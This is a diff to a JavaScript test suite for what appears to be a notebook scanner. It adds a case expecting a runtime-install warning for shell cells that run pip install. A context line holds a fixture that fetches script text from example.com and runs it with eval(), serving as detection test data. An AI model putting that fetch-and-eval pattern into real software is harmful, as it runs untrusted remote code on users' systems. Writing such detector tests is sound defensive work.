@@ -94,6 +94,12 @@ describe('notebooks', () => {
       ]);
     });
 
+    it('with cells that an editor shows as a shell’s', () => {
+      const shell = { metadata: { vscode: { languageId: 'shellscript' } } };
+      const text = notebook([cell('! pip install x', shell), cell('pip install y', shell)]);
+      assert.deepEqual(found(text), ['0:0 runtime-install warning']);
+    });
+
     it('without cells of other languages, and with those of scripts', () => {
       const R = { metadata: { vscode: { languageId: 'r' } } };
       const script = 'const t = await (await fetch("https://example.com/a.js")).text();\neval(t);';
